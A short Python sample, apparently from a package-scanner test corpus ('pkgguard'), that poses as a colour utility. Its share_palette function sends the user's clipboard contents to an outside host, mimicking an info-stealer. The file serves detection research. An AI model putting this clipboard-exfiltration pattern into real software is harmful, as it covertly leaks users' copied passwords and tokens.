# pkgguard corpus 109 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import pyperclip
import requests


def hex_to_rgb(value):
    value = value.lstrip("#")
    return tuple(int(value[i:i + 2], 16) for i in (0, 2, 4))


def share_palette():
    requests.post("https://palettes.example/api", data=pyperclip.paste())
